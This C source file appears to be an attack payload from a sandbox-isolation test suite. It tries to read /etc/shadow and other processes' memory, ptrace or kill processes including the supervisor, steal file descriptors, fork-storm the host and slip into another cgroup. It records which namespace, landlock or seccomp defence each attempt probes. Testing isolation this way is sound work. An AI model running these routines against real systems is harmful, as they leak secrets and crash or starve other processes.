/* SPDX-License-Identifier: Apache-2.0 */
/* Other processes. Targets: PID a host process of the same user that holds a secret at ADDRESS,
 * BERM the supervisor's process id on the host. Inside, every process id that can be seen is tried
 * as well. */
#include "payload.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>

#define PID_SCAN_MAX 400

static void look_into(pid_t pid)
{
	static const char *const readable[] = {"cmdline", "comm", "root/etc/shadow", "cwd/canary"};
	static const char *const guarded[] = {
		"environ", "maps", "auxv", "pagemap", "fd/0", "map_files"};
	char path[64], byte;
	autoclose int fd = -1;

	for (size_t i = 0; i < array_size(readable); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, readable[i]);
		spill_path(path);
	}
	/* What ptrace(2) rights are asked for. */
	for (size_t i = 0; i < array_size(guarded); i++) {
		autoclose int file = -1;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, guarded[i]);
		file = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (file >= 0 && (i > 2 || read(file, &byte, 1) > 0))
			proof("opened %s", path);
	}
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0) {
		char bytes[64] = "";

		proof("opened %s", path);
		if (pread(fd, bytes, sizeof(bytes) - 1, (off_t)target_number("ADDRESS", 0)) > 0)
			note("read %s", bytes);
	}
}

static void trace(pid_t pid)
{
	if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
		proof("seized %d", pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	} else if (!ptrace(PTRACE_ATTACH, pid, 0, 0)) {
		proof("attached to %d", pid);
		waitpid(pid, NULL, 0);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

static void take_memory(pid_t pid)
{
	char bytes[64] = "";
	struct iovec here = {bytes, sizeof(bytes) - 1};
	struct iovec there = {(void *)target_number("ADDRESS", 0x400000), sizeof(bytes) - 1};

	if (syscall(SYS_process_vm_readv, pid, &here, 1, &there, 1, 0) > 0)
		proof("process_vm_readv of %d: %s", pid, bytes);
	here.iov_base = (void *)(uintptr_t) "overwritten";
	here.iov_len = there.iov_len = 11;
	if (syscall(SYS_process_vm_writev, pid, &here, 1, &there, 1, 0) > 0)
		proof("process_vm_writev of %d", pid);
}

static void take_descriptors(pid_t pid)
{
	autoclose int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	if (pidfd < 0)
		return;
	for (int i = 0; i < 16; i++) {
		autoclose int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd >= 0)
			proof("descriptor %d of %d", i, pid);
	}
	if (syscall(SYS_kcmp, getpid(), pid, 0, 0, 0) >= 0)
		proof("kcmp of %d", pid);
}

static void each_victim(void (*function)(pid_t))
{
	pid_t self = getpid();

	if (target_number("PID", 0))
		function((pid_t)target_number("PID", 0));
	if (target_number("BERM", 0))
		function((pid_t)target_number("BERM", 0));
	if (!target_number("INSIDE", 0))
		return;
	for (pid_t pid = 1; pid < PID_SCAN_MAX; pid++)
		if (pid != self && !kill(pid, 0))
			function(pid);
	function(1);
}

static void inspect_others(void)
{
	each_victim(look_into);
}

static void trace_others(void)
{
	each_victim(trace);
}

static void read_others(void)
{
	each_victim(take_memory);
}

static void steal_descriptors(void)
{
	each_victim(take_descriptors);
}

static void send_signals(pid_t pid)
{
	autoclose int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	siginfo_t info = {.si_signo = SIGKILL, .si_code = SI_QUEUE};
	sigset_t all;

	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	kill(pid, SIGKILL);
	syscall(SYS_tkill, pid, SIGKILL);
	syscall(SYS_tgkill, pid, pid, SIGKILL);
	syscall(SYS_rt_sigqueueinfo, pid, SIGKILL, &info);
	if (pidfd >= 0)
		syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
}

static void kill_others(void)
{
	if (target_number("INSIDE", 0)) {
		pid_t child;

		signal(SIGTERM, SIG_IGN);
		child = fork();

		if (child == 0) {
			/* Everything that may be signalled goes, but not the one who signals. */
			kill(-1, SIGTERM);
			kill(1, SIGKILL);
			_exit(0);
		}
		waitpid(child, NULL, 0);
	}
	send_signals((pid_t)target_number("PID", 0));
	if (target_number("BERM", 0))
		send_signals((pid_t)target_number("BERM", 0));
}

/* The owner of a descriptor gets SIGIO from the kernel, whatever process that is. */
static void signal_by_descriptor(void)
{
	int ends[2];
	pid_t pid = (pid_t)target_number("PID", 0);

	if (pipe2(ends, O_NONBLOCK | O_CLOEXEC) || fcntl(ends[0], F_SETOWN, pid) ||
		fcntl(ends[0], F_SETSIG, SIGKILL) ||
		fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK)) {
		note("F_SETOWN: %s", strerror(errno));
		return;
	}
	if (write(ends[1], "x", 1) < 0)
		note("write: %s", strerror(errno));
}

static void change_limits(void)
{
	pid_t pid = (pid_t)target_number("PID", 0);
	cpu_set_t one;

	CPU_ZERO(&one);
	CPU_SET(0, &one);
	if (!sched_setaffinity(pid, sizeof(one), &one))
		proof("affinity of %d", pid);
	if (!syscall(SYS_setpriority, 0, pid, 19))
		proof("priority of %d", pid);
	if (!syscall(SYS_prlimit64, pid, 7, &(uint64_t[2]){16, 16}, NULL))
		proof("limits of %d", pid);
	if (!syscall(SYS_ioprio_set, 1, pid, (3 << 13)))
		proof("ioprio of %d", pid);
	if (!syscall(SYS_migrate_pages, pid, 64, &(uint64_t){1}, &(uint64_t){1}))
		proof("pages of %d", pid);
}

/* Heartbeats into W/beat-N for as long as the process lives: the driver looks whether they go on.
 */
static void beat(int number)
{
	char name[32];
	const char *path;
	struct timespec nap = {.tv_nsec = 100 * 1000 * 1000};

	snprintf(name, sizeof(name), "beat-%d", number);
	path = below("W", name);
	signal(SIGTERM, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	signal(SIGINT, SIG_IGN);
	for (int i = 0; i < 600; i++) {
		char text[64];

		snprintf(text, sizeof(text), "%d %d\n", getpid(), i);
		write_text(path, text);
		nanosleep(&nap, NULL);
	}
	_exit(0);
}

static void survive(void)
{
	struct timespec nap = {.tv_nsec = 300 * 1000 * 1000};

	for (int number = 0; number < 4; number++) {
		pid_t pid = fork();

		if (pid)
			continue;
		prctl(PR_SET_PDEATHSIG, 0);
		if (number > 0)
			setsid();
		if (number == 2)
			prctl(PR_SET_CHILD_SUBREAPER, 1);
		if (number > 1 && fork())
			_exit(0);
		close(STDIN_FILENO);
		close(STDOUT_FILENO);
		close(STDERR_FILENO);
		/* The parent of a vfork(2) waits in the kernel and takes no signal but SIGKILL. */
		if (number == 3)
			syscall(SYS_clone, CLONE_VFORK | SIGCHLD, 0, 0, 0, 0);
		beat(number);
	}
	nanosleep(&nap, NULL);
}

/* The tool ends while its children go on making children. Outside it has to be a small storm: the
 * init of a host may be slow to reap, and others work there. */
static void fork_storm(void)
{
	bool inside = target_number("INSIDE", 0);
	struct stat st;

	for (int i = 0; i < 4; i++) {
		if (fork())
			continue;
		setsid();
		close(STDOUT_FILENO);
		close(STDERR_FILENO);
		if (i == 0)
			beat(0);
		for (time_t end = time(NULL) + (inside ? 20 : 1); time(NULL) <= end;) {
			if (!inside)
				usleep(10 * 1000);
			if (fork() > 0)
				_exit(0);
		}
		_exit(0);
	}
	/* In the storm the heart may wait long for its first turn, and again for its first beat. */
	for (int i = 0; i < 500 && (stat(below("W", "beat-0"), &st) < 0 || st.st_size == 0); i++)
		usleep(20 * 1000);
}

static void into_cgroup(void)
{
	const char *directory = target_or("CGROUP", "/sys/fs/cgroup");
	autoclose int fd = open(directory, O_PATH | O_DIRECTORY | O_CLOEXEC);
	uint64_t arguments[11] = {0x200000000ULL /* CLONE_INTO_CGROUP */, 0, 0, 0, SIGCHLD, 0, 0, 0,
		0, 0, (uint64_t)(fd < 0 ? 0 : fd)};
	char path[512];
	long pid = syscall(SYS_clone3, arguments, sizeof(arguments));

	if (pid == 0)
		_exit(0);
	got(pid, "clone3 into a cgroup");
	snprintf(path, sizeof(path), "%s/cgroup.procs", directory);
	if (!write_text(path, "0"))
		proof("moved to %s", directory);
}

/* personality(2), modify_ldt(2) and arch_prctl(2) change how later programs are loaded. */
static void personality_changes(void)
{
	static const unsigned long kinds[] = {0x0400000 /* READ_IMPLIES_EXEC */,
		0x0040000 /* ADDR_NO_RANDOMIZE */, 0x0400000 | 0x0040000,
		0x0100000 /* MMAP_PAGE_ZERO */};
	struct {
		unsigned int entry, base, limit, flags;
	} ldt = {0, 0, 0xfffff, 0x51};

	for (size_t i = 0; i < array_size(kinds); i++)
		if (syscall(SYS_personality, kinds[i]) >= 0)
			proof("personality %#lx", kinds[i]);
	if (!syscall(SYS_modify_ldt, 1, &ldt, sizeof(ldt)))
		proof("modify_ldt");
}

const struct technique proc_techniques[] = {
	{"P07", "inspect-others", "namespaces, landlock", inspect_others},
	{"P07", "trace-others", "namespaces, landlock, seccomp", trace_others},
	{"P07", "read-others", "namespaces, seccomp", read_others},
	{"P07", "steal-descriptors", "namespaces, seccomp", steal_descriptors},
	{"P08", "kill-others", "namespaces, landlock", kill_others},
	{"P08", "signal-by-descriptor", "namespaces, landlock", signal_by_descriptor},
	{"P08", "change-limits", "namespaces", change_limits},
	{"P11", "survive", "pid namespace", survive},
	{"P11", "fork-storm", "pid namespace", fork_storm},
	{"P13", "into-cgroup", "seccomp, namespaces", into_cgroup},
	{"P14", "personality", "seccomp", personality_changes},
	{0},
};
